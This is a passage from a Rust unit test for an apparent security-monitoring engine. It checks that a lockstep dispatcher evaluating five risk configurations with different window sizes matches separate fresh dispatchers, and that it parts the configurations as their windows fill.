/// the smaller window is full, then part, each with a copy of the state at
/// its own window. Five windows (8, 11, 11 with a stricter prior, 20 and
/// the default 128) over five extensions that evict each other's states under a
/// two-state bound, and a long benign extension whose windows fill and
/// evict many times over: every call of every config equals a fresh
/// `Dispatcher`, and the configs parted by window.
#[test]
fn slo_10_lockstep_parts_configs_by_window_as_their_windows_fill() {
    use seclab_engine::dispatch::lockstep::{CompiledSession, ListGroups, Lockstep};
    let (cfg, reqs, ts) = evicting_session(150);
    // Counts the config checks against its window, at most the smallest one.
    let mut base = cfg.risk.clone();
    base.weights.burst_10s_calls = 8;
    base.weights.dangerous_burst_calls = 8;
    base.drift.min_samples = 8;
    base.actions.deny_retry_quarantine = 8;
    let with_window = |w: usize| {
        let mut r = base.clone();
        r.window_size = w;
        r
    };
    let mut strict = with_window(11);
    strict.prior.unsafe_ *= 4.0;
    let risks = [with_window(8), with_window(11), strict, with_window(20), base.clone()];
    for r in &risks {
        r.validate().expect("a valid config");
    }
    let groups = ListGroups::new(&risks);
    let compiled = CompiledSession::compile(&cfg, &groups, &reqs, &ts).expect("the session compiles");
    let mut lock = Lockstep::new(&risks, &groups);
    assert_eq!(
        lock.kinds(),
        1,
        "configs that differ in prior and window share one kind"
    );
    assert_lockstep_equals_dispatchers(&cfg, &risks, &mut lock, &compiled, &reqs, &ts);
    // Four windows below the default one: at least one part each.
    assert!(lock.parted() >= 4, "parted {} times", lock.parted());
}
